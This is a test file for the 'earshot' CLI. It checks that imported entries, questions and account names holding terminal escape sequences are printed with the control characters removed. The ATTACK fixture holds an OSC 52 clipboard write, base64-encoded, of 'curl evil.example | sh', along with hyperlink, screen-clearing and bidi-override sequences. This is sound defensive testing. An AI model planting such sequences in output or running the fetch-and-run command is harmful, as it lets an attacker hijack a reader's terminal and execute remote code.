import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/run-cli.ts';

// What a captured chat message could carry to drive the terminal of whoever reads it later: an OSC 52
// clipboard write, an OSC 8 hyperlink, a screen clear, a carriage return and backspaces that overwrite
// the line, an 8-bit CSI, and a right-to-left override that reverses what follows.
const ATTACK =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007' +
  '\u001b[2J\r\b\b' +
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u001b\\' +
  '\u009b31m\u202eexe.tropmi\u2066';
const FORBIDDEN = ['\u001b', '\u0007', '\r', '\b', '\u009b', '\u202e', '\u2066'];
const TITLE = `Okta SSO rollout ${ATTACK} done`;
const BODY = `Okta SSO takes a day to set up.${ATTACK}\nSecond line\tstays tabbed.`;
const QUESTION = `Okta SSO status?${ATTACK}`;
// Several child processes per test; a shared, busy machine can take a while to start them.
const SLOW = 180_000;

function expectTerminalSafe(output: { stdout: string; stderr: string }) {
  const printed = output.stdout + output.stderr;
  for (const char of FORBIDDEN) expect(printed).not.toContain(char);
}

// On the embedded database only: what is checked is how stored text is printed, the same whichever
// database stored it.
describe('CLI output of stored text cannot drive the terminal', () => {
  let dataDir: string;
  let entryId: number;
  /** `ask` of a question carrying the attack, and `entries list --json`, run once to set up. */
  let askedWithAttack: { stdout: string; stderr: string };
  let listedAsJson: string;
  const earshot = (...args: string[]) => runCli(dataDir, args);

  beforeAll(async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'earshot-terminal-'));
    dataDir = path.join(dir, 'data');
    const entries = path.join(dir, 'entries.jsonl');
    const today = new Date().toISOString();
    await writeFile(
      entries,
      `${JSON.stringify({ kind: 'tip', title: TITLE, body: BODY, topics: ['sso'], source: { author: `Mallory${ATTACK}` }, createdAt: today })}\n`,
    );
    const accounts = path.join(dir, 'accounts.jsonl');
    await writeFile(
      accounts,
      `${JSON.stringify({ name: `Globex${ATTACK}`, domain: 'globex.example', ownerEmail: 'rep@example.com' })}\n`,
    );
    expect((await earshot('import', entries)).code).toBe(0);
    expect((await earshot('accounts', 'import', accounts)).code).toBe(0);
    askedWithAttack = await earshot('ask', QUESTION);
    expect(askedWithAttack.stderr).toBe('');
    listedAsJson = (await earshot('entries', 'list', '--json')).stdout;
    entryId = JSON.parse(listedAsJson.trim().split('\n')[0] ?? '').id;
  }, SLOW);

  it(
    'ask: the answer to a question carrying the attack shows the entry, with no control characters',
    async () => {
      expect(askedWithAttack.stdout).toContain('Okta SSO rollout');
      expect(askedWithAttack.stdout).toContain('Mallory');
      expectTerminalSafe(askedWithAttack);
    },
    SLOW,
  );

  it(
    'search, entries list and entries show: the entry, with no control characters; show keeps the body readable',
    async () => {
      for (const args of [
        ['search', 'Okta'],
        ['entries', 'list'],
      ]) {
        const output = await earshot(...args);
        expect(output.code).toBe(0);
        expect(output.stdout).toContain('Okta SSO');
        expectTerminalSafe(output);
      }
      const shown = await earshot('entries', 'show', String(entryId));
      expect(shown.code).toBe(0);
      expectTerminalSafe(shown);
      // Newlines and tabs stay and JSON stays lossless for machines; a reader sees the bidi override
      // as an escape, so something was there.
      expect(JSON.parse(shown.stdout).body).toBe(BODY);
      expect(shown.stdout).toContain('\\u202e');
    },
    SLOW,
  );

  it(
    'questions list, the curators\u2019 digest and accounts list: stored text, with no control characters',
    async () => {
      const questions = await earshot('questions', 'list');
      const digest = await earshot('digest', 'show', '--curators');
      const accounts = await earshot('accounts', 'list');
      for (const output of [questions, digest, accounts]) {
        expect(output.code).toBe(0);
        expectTerminalSafe(output);
      }
      expect(questions.stdout).toContain('Okta SSO status?');
      expect(digest.stdout).toContain('Okta SSO rollout');
      expect(accounts.stdout).toContain('Globex');
    },
    SLOW,
  );

  it(
    '--json output parses to exactly the stored text, each line valid JSON',
    async () => {
      // One after another: each CLI process opens the embedded database on its own.
      const outputs = [];
      for (const args of [
        ['questions', 'list', '--json'],
        ['search', 'Okta', '--json'],
        ['accounts', 'list', '--json'],
        ['ask', 'Okta SSO rollout?', '--json'],
      ]) {
        outputs.push(await earshot(...args));
      }
      for (const output of outputs) expectTerminalSafe(output);
      expectTerminalSafe({ stdout: listedAsJson, stderr: '' });
      const [entries, questions, search, accounts, ask] = [
        listedAsJson,
        ...outputs.map(({ stdout }) => stdout),
      ].map((stdout) =>
        stdout
          .trim()
          .split('\n')
          .map((line) => JSON.parse(line)),
      );
      expect(entries?.[0]).toMatchObject({ title: TITLE, body: BODY });
      expect(questions?.map((question: { text: string }) => question.text)).toContain(QUESTION);
      expect(search?.[0].results[0].title).toBe(TITLE);
      expect(accounts?.[0].name).toBe(`Globex${ATTACK}`);
      expect(ask?.[0].sources[0].title).toBe(TITLE);
    },
    SLOW,
  );
});
